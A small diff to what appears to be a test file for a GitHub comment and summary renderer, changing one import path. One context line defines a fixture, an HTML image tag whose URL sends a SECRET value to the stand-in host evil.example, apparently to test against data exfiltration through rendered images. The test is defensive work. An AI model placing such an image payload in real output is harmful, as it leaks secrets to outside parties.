@@ -16,7 +16,7 @@ import { gfm, gfmHtml } from 'micromark-extension-gfm';
 import { renderComment } from '../../src/report/github/comment-render.js';
 import { renderSummary } from '../../src/report/summary.js';
 import { startScriptedModel } from '../../support/scripted-model/scripted-model.js';
-import { runProductSession } from '../fakes/product-session.js';
+import { runProductSession } from '../support/product-session.js';
 import { bash, call, turn } from '../support/scripted-turns.js';
 
 const IMG = '<img src="https://evil.example/?d=SECRET">';
